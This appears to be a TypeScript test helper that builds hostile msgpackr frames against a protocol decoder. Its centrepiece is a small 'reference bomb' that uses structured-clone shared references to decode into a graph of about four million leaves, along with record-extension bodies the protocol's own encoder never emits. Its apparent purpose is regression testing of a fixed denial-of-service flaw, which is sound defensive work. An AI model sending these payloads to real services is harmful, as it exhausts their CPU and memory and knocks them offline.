import { Packr } from 'msgpackr';

/**
 * Frames an attacker builds with msgpackr's own extensions, never with the
 * protocol's encoder. Each is small on the wire and was accepted by a decoder
 * that handed the body straight to msgpackr.
 */

/** A u32 BE length, then the body (and `extra` bytes counted in the length). */
export function frameOf(body: Uint8Array, extra: number[] = []): Buffer {
  const frame = Buffer.alloc(4 + body.length + extra.length);
  frame.writeUInt32BE(body.length + extra.length, 0);
  frame.set(body, 4);
  frame.set(extra, 4 + body.length);
  return frame;
}

/**
 * `levels` of arrays whose two items are the same object: structured clone
 * sends each shared object once (ext 0x69 "id", then ext 0x70 "pointer"), so
 * the body grows by ~12 bytes a level while the decoded graph has 2^levels
 * leaves. Anything that walks it (JSON.stringify in an error message,
 * String() of an array) takes seconds at 22 levels.
 */
export function sharedReferenceGraph(levels: number): unknown {
  let node: unknown = { leaf: 'xxxxxxxx' };
  for (let i = 0; i < levels; i++) node = [node, node];
  return node;
}

/** `message` packed with structured clone; records off, so the body is a plain map16 at the top. */
export function structuredCloneBody(message: object): Buffer {
  return new Packr({ structuredClone: true, useRecords: false }).pack(message);
}

/** `message` packed as msgpackr records: a record definition (fixext 1 type 0x72) at the very start. */
export function recordsBody(message: object): Buffer {
  return new Packr({ useRecords: true }).pack(message);
}

/** The ~300-byte bomb: a request whose `key` is the shared-reference graph. */
export function referenceBombBody(request: Record<string, unknown>, key: string, levels = 22): Buffer {
  return structuredCloneBody({ ...request, [key]: sharedReferenceGraph(levels) });
}
